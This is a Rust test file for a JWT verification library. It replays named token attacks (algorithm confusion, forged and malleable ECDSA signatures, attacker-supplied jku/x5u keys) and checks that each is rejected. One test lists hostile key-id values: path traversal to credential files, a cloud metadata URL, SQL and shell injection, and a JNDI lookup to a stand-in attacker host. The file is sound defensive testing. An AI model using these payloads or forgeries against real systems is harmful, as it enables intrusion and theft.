//! Attacks that are known by name, played as their authors would. The page about them is docs/attacks.md; most are
//! stopped by checks that `checks.rs` and its neighbours are about.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a panic is the test's failure")]

use std::sync::LazyLock;

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use scopegate::{Error, Issuer, Verifier};
use scopegate_issuer::{Alg, LocalIssuer, Mint, SigningKey};
use serde_json::{Value, json};

const ISSUER: &str = "https://issuer.example";

static KEY: LazyLock<SigningKey> = LazyLock::new(|| SigningKey::generate(Alg::RS256));

fn trusting(keys: &[&SigningKey]) -> Verifier {
    let keys = json!({ "keys": keys.iter().map(|key| key.jwk()).collect::<Vec<_>>() }).to_string();
    let issuer = Issuer::from_jwks(ISSUER, &keys).unwrap().client("client");
    Verifier::builder().trust(issuer).build().unwrap()
}

fn mint() -> Mint {
    Mint::cognito(ISSUER, "client")
}

fn encoded(part: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(part)
}

fn decoded(jwk: &Value, member: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(jwk[member].as_str().unwrap()).unwrap()
}

/// The token with another signature.
fn with_signature(token: &str, signature: &[u8]) -> String {
    let (signing_input, _) = token.rsplit_once('.').unwrap();
    format!("{signing_input}.{}", encoded(signature))
}

fn signature(token: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(token.rsplit_once('.').unwrap().1).unwrap()
}

fn assert_forged(verifier: &Verifier, token: &str) {
    let result = verifier.verify(token);
    assert!(matches!(result, Err(Error::BadSignature { .. })), "{result:?}");
}

// Algorithm confusion

#[test]
fn a_public_key_is_no_secret_for_hmac() {
    let verifier = trusting(&[&KEY]);
    assert!(verifier.verify(&mint().sign_with(&KEY)).is_ok());
    for (name, algorithm) in
        [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)]
    {
        for secret in spellings_of_public_key(&KEY.jwk()) {
            let token = mint().alg(name).sign_with(&KEY);
            let (signing_input, _) = token.rsplit_once('.').unwrap();
            let tag = hmac::sign(&hmac::Key::new(algorithm, &secret), signing_input.as_bytes());
            let result = verifier.verify(&with_signature(&token, tag.as_ref()));
            assert!(matches!(result, Err(Error::UnacceptableAlgorithm { .. })), "{result:?}");
        }
    }
}

/// Everything that a library may call the public key: the JWK, the modulus, PKCS #1 and SPKI, as DER and as PEM.
fn spellings_of_public_key(jwk: &Value) -> Vec<Vec<u8>> {
    let numbers = [der(0x02, &unsigned(decoded(jwk, "n"))), der(0x02, &unsigned(decoded(jwk, "e")))].concat();
    let pkcs1 = der(0x30, &numbers);
    // rsaEncryption (RFC 8017 Appendix A.1), NULL
    let identifier = b"\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00";
    let spki = der(0x30, &[&identifier[..], &der(0x03, &[&[0], &pkcs1[..]].concat())].concat());
    let lines = STANDARD.encode(&spki).into_bytes();
    let lines: Vec<&str> = lines.chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n"));
    vec![
        jwk.to_string().into_bytes(),
        decoded(jwk, "n"),
        pkcs1,
        spki,
        pem.trim_end().to_owned().into_bytes(),
        pem.into_bytes(),
    ]
}

/// A number that begins with a one bit gets a zero byte before it, or it would be negative.
fn unsigned(number: Vec<u8>) -> Vec<u8> {
    if number[0] < 0x80 { number } else { [vec![0], number].concat() }
}

/// Tag, length, value (X.690 §8.1).
fn der(tag: u8, value: &[u8]) -> Vec<u8> {
    let length = u16::try_from(value.len()).unwrap().to_be_bytes();
    let length = match length {
        [0, short @ 0..=0x7f] => vec![short],
        [0, byte] => vec![0x81, byte],
        [high, low] => vec![0x82, high, low],
    };
    [&[tag], &length[..], value].concat()
}

// Signatures of zeros, and other spellings

#[test]
fn zeros_are_no_signature() {
    for alg in Alg::ALL {
        let key = SigningKey::generate(alg);
        let verifier = trusting(&[&key]);
        let token = mint().sign_with(&key);
        assert!(verifier.verify(&token).is_ok(), "{alg}");
        let length = signature(&token).len();
        for forged in [vec![0; length], vec![0xff; length], vec![0; 1], vec![0; 2 * length]] {
            assert_forged(&verifier, &with_signature(&token, &forged));
        }
    }
}

/// The order of P-256 (FIPS 186-4 §D.1.2.3).
const ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
    0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

#[test]
fn the_numbers_of_an_ecdsa_signature_lie_between_zero_and_the_order() {
    let key = SigningKey::generate(Alg::ES256);
    let verifier = trusting(&[&key]);
    let token = mint().sign_with(&key);
    assert!(verifier.verify(&token).is_ok());
    let real = signature(&token);
    let (r, s) = real.split_at(32);
    for number in [[0; 32], ORDER] {
        for forged in [[&number[..], s], [r, &number[..]], [&number[..], &number[..]]] {
            assert_forged(&verifier, &with_signature(&token, &forged.concat()));
        }
    }
}

#[test]
fn an_ecdsa_signature_has_one_form() {
    let key = SigningKey::generate(Alg::ES256);
    let verifier = trusting(&[&key]);
    let token = mint().sign_with(&key);
    assert!(verifier.verify(&token).is_ok());
    let real = signature(&token);
    let (r, s) = real.split_at(32);
    let number =
        |number: &[u8]| der(0x02, &unsigned(number.iter().copied().skip_while(|byte| *byte == 0).collect()));
    let as_der = der(0x30, &[number(r), number(s)].concat());
    let longer = [&[0], r, &[0], s].concat();
    for other in [&as_der, &longer, &real[..63].to_vec(), &[&real[..], &[0]].concat()] {
        assert_forged(&verifier, &with_signature(&token, other));
    }
}

#[test]
fn a_second_spelling_of_an_ecdsa_signature_changes_no_claim() {
    // (r, n - s) is as good as (r, s), as SECURITY.md says. It is a signature of the same content, and of no other.
    let key = SigningKey::generate(Alg::ES256);
    let verifier = trusting(&[&key]);
    let token = mint().sign_with(&key);
    let real = signature(&token);
    let (r, s) = real.split_at(32);
    let second = with_signature(&token, &[r, &difference(&ORDER, s)].concat());
    assert_ne!(second, token);
    let id = |token: &str| verifier.verify(token).unwrap().token_id().unwrap().to_owned();
    assert_eq!(id(&second), id(&token), "`jti` tells that it is the same token");
    assert_forged(&verifier, &with_signature(&mint().sign_with(&key), &signature(&second)));
}

/// `a - b` of big-endian numbers of the same length.
fn difference(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut borrow = 0;
    let mut digits: Vec<u8> = a
        .iter()
        .zip(b)
        .rev()
        .map(|(a, b)| {
            let digit = i16::from(*a) - i16::from(*b) - borrow;
            borrow = i16::from(digit < 0);
            u8::try_from(digit.rem_euclid(256)).unwrap()
        })
        .collect();
    digits.reverse();
    digits
}

// Key ids, and keys that the token brings along

#[test]
fn a_key_id_is_compared_and_never_interpreted() {
    for kid in [
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "' UNION SELECT 'secret' -- ",
        "x' OR '1'='1",
        "| sleep 10 #",
        "$(id)",
        "%00",
        "\0",
        "\r\nX-Injected: 1",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
    ] {
        // The same text is as good a name as any where the issuer uses it.
        let named = KEY.clone().with_kid(kid);
        assert!(trusting(&[&named]).verify(&mint().sign_with(&named)).is_ok(), "{kid:?}");
        let error = trusting(&[&KEY]).verify(&mint().sign_with(&named)).unwrap_err();
        assert!(matches!(error, Error::UnknownKey { .. }), "{error:?}");
        assert!(!error.to_string().contains(['\0', '\r', '\n']), "{error}");
    }
}

#[tokio::test]
async fn keys_that_a_token_points_to_are_not_fetched() {
    let (local, attackers) = (LocalIssuer::start().await.unwrap(), LocalIssuer::start().await.unwrap());
    let trusted = Issuer::cognito_at(local.issuer()).unwrap().client("local-reader");
    let verifier = Verifier::builder().trust(trusted).start().await.unwrap();
    let pointing = |mint: Mint| {
        let address = attackers.default_pool().jwks_uri();
        mint.header("jku", address.clone()).header("x5u", address)
    };
    assert!(verifier.verify_or_refresh(&pointing(local.mint()).sign()).await.is_ok());
    let key = attackers.default_pool().signing_key();
    let with_their_id = pointing(local.mint()).sign_with(&key);
    assert!(matches!(verifier.verify_or_refresh(&with_their_id).await, Err(Error::UnknownKey { .. })));
    let with_our_id = local.mint().sign();
    let kid = header_of(&with_our_id)["kid"].as_str().unwrap().to_owned();
    let with_our_id = pointing(local.mint()).sign_with(&key.with_kid(kid));
    assert!(matches!(verifier.verify_or_refresh(&with_our_id).await, Err(Error::BadSignature { .. })));
    assert_eq!(attackers.default_pool().jwks_fetches(), 0);
}

fn header_of(token: &str) -> Value {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(token.split('.').next().unwrap()).unwrap()).unwrap()
}
